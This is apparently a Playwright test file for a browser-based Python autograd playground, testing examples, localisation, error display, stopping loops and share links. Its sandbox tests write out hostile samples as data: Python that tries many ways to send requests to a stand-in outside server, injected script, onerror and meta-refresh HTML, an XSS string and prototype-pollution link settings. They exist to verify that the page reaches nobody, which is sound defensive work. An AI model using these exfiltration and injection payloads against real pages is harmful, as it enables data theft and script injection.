"""The page in a real browser: a student's walk, its languages, faults, and what hostile code can reach."""

import base64
import importlib
import json
import re
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

ROOT = Path(__file__).parents[2]
#: Milliseconds that Python may take to start on a machine that does much else.
START = 90_000


@pytest.fixture(scope="module")
def visit(browser, address):
    """Opens the page; in the end it has asked nobody but its own server."""
    context = browser.new_context(viewport={"width": 1280, "height": 800}, color_scheme="light", locale="en-US")
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    foreign = []
    local = (address, "blob:", "data:", "about:")
    context.on("request", lambda request: None if request.url.startswith(local) else foreign.append(request.url))

    def visit(link=""):
        page = context.new_page()
        page.goto(address + link)
        return page

    yield visit
    context.close()
    assert [url for url in foreign if not url.startswith(ELSEWHERE)] == []


@pytest.fixture(scope="module")
def page(visit):
    """The one page whose Python is waited for."""
    page = visit()
    page.locator("#picture iframe").wait_for(timeout=START)
    return page


def run(page, code, done="#state.ready"):
    """Types code and runs it; gives what is in the output."""
    type_code(page, code)
    page.keyboard.press("Control+Enter")
    page.locator(done).wait_for(timeout=START)
    return page.locator("#output").inner_text()


def type_code(page, code):
    page.locator("#editor .cm-content").click()
    page.keyboard.press("Control+A")
    page.keyboard.press("Delete")
    page.keyboard.insert_text(code)


def texts(svg):
    """The words and numbers of a picture, in any order: another Graphviz lays it out in another way."""
    return sorted(re.findall(r"<text[^>]*>([^<]+)</text>", svg))


def test_examples_show_the_numbers_of_this_python(page, monkeypatch):
    """The first graph is there without a click; each example prints and draws here what it prints and draws in CPython."""
    monkeypatch.syspath_prepend(ROOT / "playground/python")
    bridge = importlib.import_module("bridge")
    monkeypatch.setitem(sys.modules, "__main__", sys.modules["__main__"])
    examples = importlib.import_module("playground.build").examples()
    assert page.locator("#examples").input_value() == examples[0]["id"]
    assert page.frame_locator("#picture iframe").locator("svg").count() == 1
    for example in examples:
        sent = []
        monkeypatch.setattr(bridge, "send", sent.append)
        expected = json.loads(bridge.call("session", "run", json.dumps([example["code"]])))
        page.locator("#examples").select_option(example["id"])
        page.locator("#state.ready").wait_for(timeout=START)
        output = page.locator("#output").inner_text()
        assert output.split() == ("".join(sent) + (expected.get("text") or "")).split(), example["id"]
        if expected.get("opens") != "steps":
            svg = page.locator("#picture iframe").get_attribute("srcdoc")
            assert texts(svg) == texts(expected["graph"]), example["id"]


def test_steps(page):
    run(page, 'w, x = Value(-3.0, label="w"), Value(2.0, label="x")\nf = w * x\nf.label = "f"\nexplain(f)')
    frame = page.frame_locator("#picture iframe")
    assert page.locator("#tab-steps").get_attribute("aria-selected") == "true"
    frame.locator("[data-do=last]").click()
    assert frame.locator("[data-do=last]").is_disabled()
    assert "∂f/∂x" in frame.locator(".line").inner_text()
    page.locator("#tab-steps").focus()
    page.keyboard.press("ArrowLeft")
    assert page.locator("#tab-graph").get_attribute("aria-selected") == "true"


def test_a_graph_to_walk_into(page):
    # Of a graph that is wider than its place some boxes would be closed at first.
    run(page, 'with scope("inside"):\n    y = (Value(2.0) * Value(3.0)).exp()\ndraw(y, interactive=True)')
    frame = page.frame_locator("#picture iframe")
    frame.locator(".autograd-tree.live .card").first.wait_for()
    cards = frame.locator(".card").count()
    frame.locator(".box text").first.click()
    frame.locator(".closed").first.wait_for()
    assert frame.locator(".card").count() < cards


def test_training_can_begin_where_python_is_ready_before_the_view_is_opened(page):
    page.locator("#tab-train").click()
    page.locator("#train [data-at=play]:enabled").wait_for()


def test_a_graph_that_was_drawn_out_of_sight_fits_its_frame_when_it_is_seen(page):
    """Right after the graph to walk into, with the view of training in front."""
    page.locator("#theme").click()
    page.locator("#theme").click()
    page.locator("#tab-code").click()
    box = page.frame_locator("#picture iframe").locator(".autograd-tree .picture svg").get_attribute("viewBox")
    assert "NaN" not in box


def test_pictures_are_korean_where_the_page_is(page):
    page.locator("#language").select_option("ko")
    frame = page.frame_locator("#picture iframe")
    frame.locator(".autograd-tree.live .card").first.wait_for()
    words = frame.locator(".autograd-tree").inner_text() + frame.locator(".autograd-tree svg").last.text_content()
    assert not re.search("value|gradient|nodes|Open|Find", words), words
    run(page, 'w = Value(2.0, label="Given: value")\nexplain(w * w)')
    frame.locator(".autograd-steps .live").wait_for()
    frame.locator("summary").click()
    lines = frame.locator("li").all_inner_texts()
    assert lines[0] == "주어진 값: Given: value = 2"
    assert lines[-1].endswith("(쓰임 2번 중 2번째)")
    assert "기울기" in frame.locator(".picture .node text").all_text_contents()
    page.locator("#language").select_option("en")
    frame.locator("li >> text=Given: Given: value = 2").wait_for(state="attached")


def test_an_error_is_marked_at_its_line(page):
    output = run(page, 'def f(x):\n    return x.foo + 1\n\nprint("before")\nf(Value(2.0))')
    assert output.splitlines()[0] == "before"
    assert "line 5: f(Value(2.0))\nline 2, in f: return x.foo + 1\nAttributeError: " in output
    assert page.locator("#editor .wrong-line").inner_text().strip() == "return x.foo + 1"
    assert page.locator("#editor .wrong").inner_text() == "x.foo"
    assert page.locator("#picture").get_attribute("class") == "stale"
    assert page.locator("#caption").inner_text() == "The picture of the run before"
    assert run(page, "x = = 3") == "line 1: x = = 3\nSyntaxError: invalid syntax"


def test_long_chains_are_built_and_freed(page):
    code = "x = Value(1.0)\nfor _ in range(20_000):\n    x = x * 1.0001\nx.backward()\nprint(round(x.data, 8))\nx = 0"
    assert run(page, code) == "7.38831728\n"
    assert page.locator("#picture").get_attribute("class") == ""


def test_what_lacks_numpy_says_so(page):
    assert "NumPy" in run(page, "from autograd import jit\njit(lambda x: x * x)(2.0)")


def test_stop_ends_any_loop_and_keeps_code_and_output(page):
    code = "print('begun', flush=True)\nwhile True:\n    pass"
    run(page, code, done="#output :text('begun')")
    page.locator("#stop").click()
    page.locator("#state.loading").wait_for()
    output = page.locator("#output").inner_text().splitlines()
    assert output == ["begun", "Stopped. Python has been started again; your code is still here."]
    assert "while True:" in page.locator("#editor .cm-content").inner_text()


def test_a_worker_that_dies_is_replaced(page):
    """Right after Stop: what is asked while Python starts waits for it."""
    chain = "del Value.__del__\nx = Value(1.0)\nfor _ in range(50_000):\n    x = x * 1.0\ndel x"
    output = run(page, chain, done="#output .error")
    assert output.startswith("Python broke down (RangeError: Maximum call stack size exceeded) and has been started again")
    assert "50_000" in page.locator("#editor .cm-content").inner_text()
    assert run(page, "Value(2.0) * 3.0") == "Value(data=6.0, grad=0.0)"


def test_output_is_text(page):
    assert run(page, "print('<img src=x onerror=alert(1)>')") == "<img src=x onerror=alert(1)>\n"
    assert page.locator("#output img").count() == 0


#: A server that nothing on the page may reach; the address is one that is not the page's.
ELSEWHERE = "http://127.0.0.2:"


@pytest.fixture
def elsewhere():
    """Its address, and what it was asked."""
    asked = []

    class Handler(BaseHTTPRequestHandler):
        def answer(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_GET = do_POST = do_HEAD = answer  # noqa: N815 (the names that it calls)

        def log_message(self, format, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.2", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"{ELSEWHERE}{server.server_address[1]}/", asked
    server.shutdown()
    server.server_close()


HOSTILE = """
import js
from pyodide.ffi import to_js
import pyodide.code, pyodide.http

def options(**given):
    return to_js(given, dict_converter=js.Object.fromEntries)

def xhr():
    request = js.XMLHttpRequest.new()
    request.open("GET", "{url}xhr", False)
    request.send()

def nested():
    text = 'fetch("{url}nested-fetch"); import("{url}nested-import"); importScripts("{url}nested-scripts")'
    blob = js.Blob.new(to_js([text]), options(type="text/javascript"))
    js.Worker.new(js.URL.createObjectURL(blob))

ways = [
    lambda: js.fetch("{url}fetch"),
    lambda: js.fetch("{url}no-cors", options(mode="no-cors", method="POST", body="secret")),
    xhr,
    lambda: js.WebSocket.new("{socket}socket"),
    lambda: js.EventSource.new("{url}events"),
    lambda: js.importScripts("{url}scripts"),
    lambda: js.Worker.new("{url}worker"),
    lambda: js.Worker.new(js.HERE + "worker.js" if hasattr(js, "HERE") else "{page}worker.js", options(type="module")),
    lambda: js.eval("import('{url}eval')"),
    lambda: js.Function.new("return import('{url}function')")(),
    lambda: pyodide.code.run_js("import('{url}run_js')"),
    lambda: pyodide.http.open_url("{url}open_url"),
    lambda: pyodide.http.pyfetch("{url}pyfetch").send(None),
    lambda: js.navigator.sendBeacon("{url}beacon"),
    lambda: __import__("urllib.request").request.urlopen("{url}urllib"),
    lambda: __import__("asyncio").ensure_future(pyodide.http.pyfetch("{url}asyncio")),
    lambda: __import__("pyodide_js").loadPackage("{url}package.whl"),
    nested,
]
for way in ways:
    try:
        way()
    except BaseException as error:
        print(type(error).__name__)
"""
#: HTML in place of a picture.
HOSTILE_PICTURE = """
import session
session.sized = lambda svg: '''
<script>parent.document.title = "hacked"; fetch("{url}script")</script><script src="{url}source"></script>
<img src="{url}img"><img src=x onerror="fetch('{url}onerror')"><iframe src="{url}iframe"></iframe>
<link rel="stylesheet" href="{url}link">
<style>@import "{url}import"; body { background: url({url}background) }</style><object data="{url}object"></object>
<form action="{url}form"><button id="form">send</button></form><a id="a" href="{url}anchor" target="_top">a</a>'''
Value(1.0)
"""
HOSTILE_REFRESH = """
session.sized = lambda svg: '<meta http-equiv="refresh" content="0;url={url}refresh">'
Value(1.0)
"""


def test_hostile_code_reaches_nobody(page, address, elsewhere):
    url, asked = elsewhere
    page.locator("#tab-graph").click()
    words = {"url": url, "socket": url.replace("http", "ws"), "page": address}
    output = run(page, re.sub(r"\{(url|socket|page)\}", lambda match: words[match[1]], HOSTILE))
    assert "SyntaxError" not in output, output
    run(page, HOSTILE_PICTURE.replace("{url}", url))
    page.wait_for_timeout(700)  # for what was begun and not waited for
    for name in ("#form", "#a"):
        page.frame_locator("#picture iframe").locator(name).click()
    run(page, f"import session{HOSTILE_REFRESH}".replace("{url}", url))
    page.wait_for_timeout(500)
    assert page.url.startswith(address)
    assert page.title() == "Playground · Scalar autograd"
    assert asked == []


# The tests below need no Python on that page, of which hostile code has had its way.


def test_languages_and_colours(page):
    page.locator("#language").select_option("ko")
    assert page.locator("html").get_attribute("lang") == "ko"
    assert page.locator("#run").inner_text().startswith("실행")
    assert page.title().startswith("놀이터")
    assert page.locator("#examples option").nth(1).inner_text() == "뉴런 하나"
    page.locator("#theme").click()
    assert page.locator("html").get_attribute("theme") == "dark"
    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert max(map(int, re.findall(r"\d+", background)[:3])) < 60
    page.locator("#theme").click()
    page.locator("#language").select_option("en")


@pytest.mark.parametrize("language", ["en", "ko"])
def test_it_fits_a_phone(page, language):
    page.locator("#language").select_option(language)
    page.set_viewport_size({"width": 360, "height": 740})
    assert page.evaluate("document.documentElement.scrollWidth") == 360
    for name in ("run", "examples", "tab-train", "language", "share", "theme"):
        box = page.locator(f"#{name}").bounding_box()
        assert box["x"] >= 0, name
        assert box["x"] + box["width"] <= 360, name
    page.set_viewport_size({"width": 1280, "height": 800})
    page.locator("#language").select_option("en")


def test_a_link_opens_what_it_was_made_of(page, visit):
    type_code(page, 'print("안녕 <b>")')
    page.locator("#share").click()
    page.locator("#share :text('Link copied')").wait_for()
    link = page.evaluate("navigator.clipboard.readText()")
    assert link == page.url
    page.locator("#language").select_option("ko")
    page.locator("#language").select_option("en")
    other = visit("#" + link.partition("#")[2])
    other.locator("#from-link").wait_for()
    assert other.locator("#editor .cm-content").inner_text() == 'print("안녕 <b>")'
    other.close()


def test_a_damaged_link_says_so(visit):
    page = visit("#code=%ff%ff&lang=xx&view=nothing&example=none")
    page.locator("#output .error").wait_for()
    assert "link is damaged" in page.locator("#output").inner_text()
    page.close()


def encoded(text):
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


@pytest.mark.parametrize("name", ["__proto__", "constructor", "toString"])
def test_names_of_javascript_in_a_link_are_not_found(visit, name):
    settings = encoded(json.dumps({"__proto__": {"polluted": 1}, "hidden": {"length": 0}, "data": name}))
    page = visit(f"#lang={name}&view={name}&example={name}&code={encoded('1 + 1')}&train={settings}")
    page.locator("#from-link").wait_for()
    assert page.title() == "Playground · Scalar autograd"
    assert page.locator("#share").inner_text() == "Copy link"
    assert page.evaluate("({}).polluted") is None
    page.close()


def test_letters_that_hide_or_turn_code_around_are_shown(visit):
    hidden = "\u202e\u2066\u2069\u200b\u200d\u3164\U000e0041"
    page = visit(f"#code={encoded(f'x = 1 # {hidden}')}")
    page.locator("#from-link").wait_for()
    assert page.locator("#editor .cm-specialChar").count() == len(hidden)
    page.close()


def test_long_code_comes_by_a_link_and_goes_by_none_that_is_too_long(visit):
    page = visit(f"#code={encoded('x = 1' + '0' * 300_000)}")
    page.locator("#from-link").wait_for()
    page.locator("#share").click()
    page.locator("#share :text('Link copied')").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == page.url
    type_code(page, "x" * 1_000_000)
    page.locator("#share").click()
    page.locator("#share :text('Too long for a link')").wait_for()
    assert page.url == page.evaluate("navigator.clipboard.readText()")
    page.close()
